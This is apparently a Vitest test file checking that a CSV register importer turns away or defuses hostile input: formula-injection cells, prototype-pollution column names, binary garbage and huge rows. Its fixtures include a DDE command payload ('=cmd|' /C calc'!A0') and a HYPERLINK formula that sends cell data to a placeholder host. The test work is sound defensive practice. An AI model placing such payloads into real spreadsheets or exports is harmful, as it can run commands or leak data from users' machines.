/**
 * Hostile registers: refused with a row-numbered message or imported as plain text, within a time
 * budget; formula-looking text is never evaluated on the way in and is neutralised on the way out.
 */
import { afterEach, expect, test } from 'vitest';
import { registerCsv } from '../../src/lib/register/export';
import { importRegister } from '../../src/lib/register/import';
import { sampleRegister } from '../../src/lib/register/sample';
import type { ImportResult, Problem } from '../../src/lib/register/types';
import { contained, expectReadable, expectUnpolluted, file, SHORT_BUDGET_MS, utf8 } from './helpers';

afterEach(expectUnpolluted);

function problemsOf(r: ImportResult): Problem[] {
	if (r.ok) throw new Error('expected the register to be refused, it was imported');
	for (const p of r.problems) {
		expectReadable(p.message.en);
		expectReadable(p.message.zh);
	}
	return r.problems;
}
function imported(r: ImportResult) {
	if (!r.ok) throw new Error(`expected the register to be imported: ${r.problems.map((p) => p.message.en).join('; ')}`);
	return r;
}
/** A valid register of the plan's 316 compounds, as the importer's own export writes it. */
const lines = () =>
	registerCsv(sampleRegister())
		.replace(/^\uFEFF/, '')
		.split('\r\n');

test('register-formula-cells.csv: formula-looking text is imported as text, and exported with a leading quote', async () => {
	const r = imported(await contained(() => importRegister(file('register-formula-cells.csv'))));
	expect(r.register.map((c) => c.name)).toEqual([
		"=cmd|' /C calc'!A0",
		'=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
		'+SUM(1+1)',
		'-2+3'
	]);
	expect(r.register[2].community).toBe('@WEBSERVICE(x)');
	const out = registerCsv(r.register);
	for (const c of r.register)
		expect(out).toContain(
			c.name.startsWith('=') && c.name.includes('"') ? `"'${c.name.replace(/"/g, '""')}"` : `'${c.name}`
		);
	// No exported cell starts like a formula once the CSV is split (quotes removed).
	const cells = out
		.replace(/^\uFEFF/, '')
		.split('\r\n')
		.slice(1)
		.flatMap((l) => l.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
	for (const cell of cells) expect(cell.replace(/^"|"?,?$/g, '')).not.toMatch(/^[=+\-@\t\r]/);
	// …and it reads back as the same compounds.
	expect(imported(await importRegister(utf8(out))).register.map((c) => c.name)).toEqual(r.register.map((c) => c.name));
});

test('register-proto-keys.csv: __proto__ and constructor as columns are refused by name; as compound names they are just names', async () => {
	const refused = problemsOf(await contained(() => importRegister(file('register-proto-keys.csv'))));
	expect(refused.map((p) => p.column)).toEqual(expect.arrayContaining(['__proto__', 'constructor']));
	const r = imported(
		await contained(() => importRegister(file('register-proto-keys.csv'), { ignoreUnknownColumns: true }))
	);
	expect(r.register.map((c) => [c.name, c.street, c.community])).toEqual([
		['__proto__', 'constructor', 'prototype'],
		['constructor', '__proto__', 'hasOwnProperty']
	]);
	for (const c of r.register) expect(Object.getPrototypeOf(c)).toBe(Object.prototype);
});

test('register-binary-garbage.bin: random bytes are refused as a file, not a crash', async () => {
	const problems = problemsOf(await contained(() => importRegister(file('register-binary-garbage.bin'))));
	expect(problems[0].row).toBe(0);
	// The same bytes behind a zip or an old-Excel signature are refused as damaged or unsupported.
	const garbage = file('register-binary-garbage.bin');
	for (const magic of [
		[0x50, 0x4b, 0x03, 0x04],
		[0xd0, 0xcf, 0x11, 0xe0],
		[0xef, 0xbb, 0xbf],
		[0xff, 0xfe]
	]) {
		const bytes = new Uint8Array([...magic, ...garbage]);
		expect(problemsOf(await contained(() => importRegister(bytes))).length, magic.join(' ')).toBeGreaterThan(0);
	}
});

test('register-infinite-area.csv: an area of 1e309 (or 1 and 400 zeros) is not a number of m², it is refused', async () => {
	const problems = problemsOf(await contained(() => importRegister(file('register-infinite-area.csv'))));
	expect(problems.map((p) => p.row)).toEqual([2, 3]);
	for (const p of problems) expect(p.column).toBe('面积（平方米）');
});

test('[register-huge-row.csv]: a row of 1,000,000 cells is refused, naming the row', async () => {
	const [head, first] = lines();
	const problems = problemsOf(
		await contained(() => importRegister(utf8(`${head}\n${first}${',x'.repeat(1_000_000)}\n`)))
	);
	expect(problems).toHaveLength(1);
	expect(problems[0].message.en).toMatch(/row 2\b/i);
	expect(problems[0].message.en).toMatch(/1,?000,?009 cells/);
});

test('[register-huge-cell.csv]: a 20 MB name is refused as too long, or kept whole as plain text', async () => {
	const [head, first] = lines();
	const r = await contained(() =>
		importRegister(utf8(`${head}\n${first.replace(/^[^,]*/, 'x'.repeat(20_000_000))}\n`))
	);
	if (r.ok) expect(r.register[0].name).toHaveLength(20_000_000);
	else expect(problemsOf(r)[0].row).toBe(2);
});

test('[register-huge-header.csv]: a header of 500,000 unknown columns (1 MB) is refused within the budget', async () => {
	const problems = problemsOf(
		await contained(() => importRegister(utf8(`${'h,'.repeat(500_000)}h\n1\n`)), SHORT_BUDGET_MS)
	);
	expect(problems[0].message.en).toMatch(/row 1\b/i);
	// A message per column would be 500,000 messages: the list is capped (maxProblems).
	expect(problems.length).toBeLessThanOrEqual(1001);
});
